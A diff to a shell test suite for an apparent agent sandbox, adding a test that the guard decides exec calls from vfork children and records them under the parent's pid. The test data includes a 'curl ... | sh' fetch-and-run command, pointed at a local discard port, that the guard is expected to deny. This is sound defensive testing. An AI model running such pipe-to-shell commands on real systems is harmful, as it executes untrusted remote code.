@@ -62,6 +62,26 @@ test_agent_processes_take_the_compiled_policy_not_the_yaml() {
     expect_row agent=img1 decision=deny op=open-read target="$PWD/.env"
 }
 
+test_vfork_children_are_decided_and_the_parent_keeps_working() {
+    # vfork stays vfork under the guard: the child's exec is decided and
+    # recorded through the parent's ring, and the parent goes on.
+    prog agent_vfork; echo data > vfork-data.txt
+    out=$(guard --isolation "$ISO" --name vf1 --policy "$DEFAULT" -- ./agent_vfork 50 2>&1) ||
+        fail "agent_vfork: $out"
+    assert_contains "$out" "ok 50"
+    expect_row agent=vf1 op=exec decision=deny "target2~curl http://127.0.0.1:9/x | sh"
+    expect_row agent=vf1 op=exec decision=allow target=/usr/bin/true
+    expect_row agent=vf1 op=open-read decision=allow "target~/vfork-data.txt"
+    # Real vfork children, not forks: they registered no ring of their own,
+    # so the guard's rows of this run all carry the one parent's pid.
+    npids=$(rows | python3 -c '
+import json, sys
+pids = {r["pid"] for r in map(json.loads, sys.stdin)
+        if r.get("agent") == "vf1" and r.get("layer") == "guard" and r.get("op") in ("exec", "open-read")}
+print(len(pids))')
+    assert_eq "$npids" 1 "distinct pids in the guard rows"
+}
+
 test_python_cannot_read_dotenv() {
     secret py
     rc=0; out=$(guard --isolation "$ISO" --name py1 --policy "$DEFAULT" -- \
